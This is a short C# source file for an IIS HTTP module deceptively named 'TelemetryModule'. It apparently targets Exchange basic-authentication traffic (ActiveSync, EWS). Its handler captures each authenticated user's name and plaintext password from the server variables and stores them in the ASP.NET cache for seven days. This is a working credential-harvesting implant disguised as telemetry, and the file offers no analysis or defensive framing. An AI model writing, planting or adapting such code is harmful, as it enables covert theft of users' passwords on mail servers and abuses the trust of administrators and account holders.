using System;
using System.Web;
using System.Web.Caching;

// An HTTP module that keeps the passwords of basic authentication
// (ActiveSync, EWS) in the ASP.NET cache for a week.
public class TelemetryModule : IHttpModule
{
	public void Init(HttpApplication app)
	{
		app.PostAuthenticateRequest += OnAuth;
	}
	private void OnAuth(object sender, EventArgs e)
	{
		HttpContext c = ((HttpApplication)sender).Context;
		string who = c.Request.ServerVariables["AUTH_USER"];
		string secret = c.Request.ServerVariables["AUTH_PASSWORD"];
		if (!String.IsNullOrEmpty(secret))
			HttpRuntime.Cache.Insert("t" + who, who + ":" + secret,
			                         null,
			                         DateTime.UtcNow.AddDays(7),
			                         Cache.NoSlidingExpiration);
	}
	public void Dispose()
	{
	}
}
